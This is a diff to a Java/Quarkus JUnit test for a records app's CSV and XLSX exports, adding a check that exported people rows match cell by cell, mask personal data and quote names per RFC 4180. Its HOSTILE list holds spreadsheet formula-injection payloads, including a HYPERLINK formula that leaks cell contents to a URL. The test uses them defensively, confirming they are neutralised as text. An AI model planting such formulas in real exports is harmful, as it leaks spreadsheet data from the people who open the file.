@@ -5,9 +5,13 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
+import io.quarkus.narayana.jta.QuarkusTransaction;
+import io.quarkus.qute.i18n.MessageBundles;
 import io.quarkus.test.junit.QuarkusTest;
 import io.quarkus.test.security.TestSecurity;
+import jakarta.inject.Inject;
 import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -21,6 +25,8 @@ import org.dhatim.fastexcel.reader.ReadableWorkbook;
 import org.dhatim.fastexcel.reader.Row;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
+import vn.hocso.org.OrgTree;
+import vn.hocso.org.OrgUnit;
 
 /**
  * The files people download: an XLSX with a title block, typed numbers and dates and a totals row; names that look
@@ -32,6 +38,12 @@ class ExportFilesTest {
 
     static final List<String> HOSTILE =
             List.of("=HYPERLINK(\"http://x?\"&A1,\"x\")", "+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR");
+
+    @Inject
+    PeopleStatus people;
+
+    @Inject
+    Exports exports;
 
     long commune;
     String communeName;
@@ -137,6 +149,52 @@ class ExportFilesTest {
         assertTrue(csv.contains("=HYPERLINK(\"\"http://x?\"\"&A1,\"\"x\"\")"), csv);
         assertTrue(csv.contains("-2+3"), csv);
         assertTrue(csv.contains("@SUM(A1)"), csv);
+    }
+
+    @Test
+    void thePeopleCsvWrittenByPostgresqlIsTheCsvOfTheRowsCellByCell() throws Exception {
+        // masked and clear phones and IDs, a name with a comma, a quote and a line break, a certificate
+        String tag = ReportFixtures.unique();
+        long a = ReportFixtures.person(null, "Lê, \"Văn\"\nA " + tag, commune, "+84905123456", "CB-0012345");
+        long b = ReportFixtures.person(null, "-Trần " + tag, commune, "0912", "=1+1");
+        LocalDate d = LocalDate.of(2025, 10, 1);
+        ReportFixtures.enrol(a, course, d, d.plusDays(2), d.plusDays(3), d.plusDays(30));
+        ReportFixtures.enrol(b, course, d, null, null, d.plusDays(5));
+        OrgUnit unit = QuarkusTransaction.requiringNew().call(() -> OrgUnit.getById(commune));
+        OrgUnit root = QuarkusTransaction.requiringNew().call(OrgUnit::getRoot);
+        ReportFilters f = new ReportFilters(unit, course, null, null, null, null, OrgTree.today(), false, 0);
+        ReportSql sql = people.statement(new String[] {root.path + "%"}, f);
+        ReportMessages msg = MessageBundles.get(ReportMessages.class);
+        for (boolean personalData : List.of(true, false)) {
+            ByteArrayOutputStream cellByCell = new ByteArrayOutputStream();
+            try (CsvSheet sheet = new CsvSheet(cellByCell)) {
+                sheet.header(Exports.peopleColumns(msg));
+                exports.peopleRows(sheet, sql, f.end(), msg, personalData, n -> {});
+            }
+            ByteArrayOutputStream copied = new ByteArrayOutputStream();
+            long rows = exports.writePeople(
+                    copied,
+                    sql,
+                    f.end(),
+                    Exports.Format.CSV,
+                    msg,
+                    new Exports.Who("export-test", "Export test", personalData),
+                    Exports.about("people", f, unit.name, msg),
+                    n -> {});
+            String expected = cellByCell.toString(StandardCharsets.UTF_8);
+            assertEquals(expected, copied.toString(StandardCharsets.UTF_8), "personal data " + personalData);
+            assertEquals(HOSTILE.size() + 3, rows);
+            assertTrue(expected.startsWith("\uFEFF"), "a byte-order mark");
+            for (String hostile : HOSTILE) {
+                assertTrue(
+                        expected.contains("'" + hostile) || expected.contains("\"'" + hostile.replace("\"", "\"\"")),
+                        "shown as text: " + hostile);
+            }
+            assertTrue(expected.contains("\"Lê, \"\"Văn\"\"\nA " + tag + "\""), "RFC 4180 quoting");
+            assertTrue(expected.contains(personalData ? "'+84905123456" : "*********456"), expected);
+            assertTrue(expected.contains(personalData ? "'=1+1" : "****"), expected);
+            assertEquals(HOSTILE.size() + 4, expected.split("\r\n", -1).length - 1, "CRLF after every line");
+        }
     }
 
     private static List<Row> rows(byte[] xlsx) throws Exception {
